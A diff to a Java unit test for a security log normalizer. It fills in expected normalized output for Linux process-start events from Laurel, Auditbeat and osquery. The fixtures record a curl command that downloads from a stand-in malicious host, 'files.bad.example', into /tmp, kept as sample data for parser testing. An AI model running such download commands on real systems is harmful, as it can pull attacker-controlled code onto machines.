@@ -11,16 +11,16 @@ import io.clicktrail.normalizer.Reader;
 import org.junit.jupiter.api.Test;
 
 /** The audit system's events as other programs put them together, and osquery's rows. */
-class LinuxJsonTest {
+public class LinuxJsonTest {
 
-    private static final String LAUREL = """
+    public static final String LAUREL = """
             {"ID":"1772445605.701:4711","NODE":"lin-7.corp.example","SYSCALL":{"arch":"0xc000003e","syscall":59,"success":"yes","exit":0,"items":2,"ppid":2176,"pid":2221,\
             "auid":1000,"uid":1000,"gid":1000,"euid":1000,"tty":"pts0","ses":8,"comm":"curl","exe":"/usr/bin/curl","key":"exec","ARCH":"x86_64","SYSCALL":"execve","AUID":"ada","UID":"ada"},\
             "EXECVE":{"argc":4,"ARGV":["curl","-o","/tmp/my report.sh","https://files.bad.example/a"]},"CWD":{"cwd":"/home/ada"},\
             "PATH":[{"item":0,"name":"/usr/bin/curl","nametype":"NORMAL"},{"item":1,"name":"/lib64/ld-linux-x86-64.so.2","nametype":"NORMAL"}],\
             "PROCTITLE":{"ARGV":["curl","-o"]},"PPID":{"EVENT_ID":"1772445600.000:4600","comm":"bash","exe":"/usr/bin/bash","ppid":2170}}""";
 
-    private static final String AUDITBEAT = """
+    public static final String AUDITBEAT = """
             {"@timestamp":"2026-03-02T10:00:05.701Z","@metadata":{"beat":"auditbeat"},"agent":{"type":"auditbeat","hostname":"lin-7.corp.example"},"host":{"name":"lin-7.corp.example","os":{"type":"linux"}},\
             "event":{"module":"auditd","action":"executed","category":["process"],"outcome":"success"},\
             "auditd":{"message_type":"syscall","sequence":4711,"result":"success","session":"8","data":{"syscall":"execve","arch":"x86_64","exit":"0"},\
@@ -28,7 +28,7 @@ class LinuxJsonTest {
             "process":{"pid":2221,"parent":{"pid":2176},"name":"curl","executable":"/usr/bin/curl","working_directory":"/home/ada","args":["curl","-o","/tmp/my report.sh","https://files.bad.example/a"]},\
             "user":{"id":"1000","name":"ada","audit":{"id":"1000","name":"ada"}},"file":{"path":"/usr/bin/curl"}}""";
 
-    private static final String OSQUERY = """
+    public static final String OSQUERY = """
             {"name":"pack_ir_process_events","hostIdentifier":"lin-7.corp.example","calendarTime":"Mon Mar  2 10:00:30 2026 UTC","unixTime":1772445630,"epoch":0,"counter":7,\
             "decorations":{"platform":"ubuntu"},"columns":{"auid":"1000","cmdline":"curl -o /tmp/a https://files.bad.example/a","cwd":"\\"/home/ada\\"","eid":"77","parent":"2176","path":"/usr/bin/curl",\
             "pid":"2221","syscall":"execve","time":"1772445605","uid":"1000"},"action":"added"}""";
@@ -38,7 +38,7 @@ class LinuxJsonTest {
     @Test
     void readsAProcessStartOfLaurel() {
         assertThat(Facts.of(reader.event(LAUREL))).isEqualTo("""
-                TODO""");
+                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"linux.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176,"executable":"/usr/bin/bash"}}}""");
     }
 
     @Test
@@ -101,7 +101,7 @@ class LinuxJsonTest {
     @Test
     void readsAuditbeatsProcessStart() {
         assertThat(Facts.of(reader.event(AUDITBEAT))).isEqualTo("""
-                TODO""");
+                {"@timestamp":"2026-03-02T10:00:05.701Z","event":{"action":"process_start","code":"execve","dataset":"auditbeat.auditd"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"name":"ada","id":"1000"},"process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176}}}""");
     }
 
     @Test
@@ -134,7 +134,7 @@ class LinuxJsonTest {
     @Test
     void readsAProcessOfOsquery() {
         assertThat(Facts.of(reader.event(OSQUERY))).isEqualTo("""
-                TODO""");
+                {"@timestamp":"2026-03-02T10:00:05Z","event":{"action":"process_start","code":"process","dataset":"osquery.result"},"host":{"name":"lin-7.corp.example","hostname":"lin-7.corp.example","domain":"corp.example","os":{"type":"linux"}},"user":{"id":"1000"},"process":{"entity_id":"lin-7.corp.example::2221","pid":2221,"start":"2026-03-02T10:00:05Z","executable":"/usr/bin/curl","name":"curl","command_line":"curl -o /tmp/a https://files.bad.example/a","working_directory":"/home/ada","parent":{"entity_id":"lin-7.corp.example::2176","pid":2176}}}""");
     }
 
     @Test
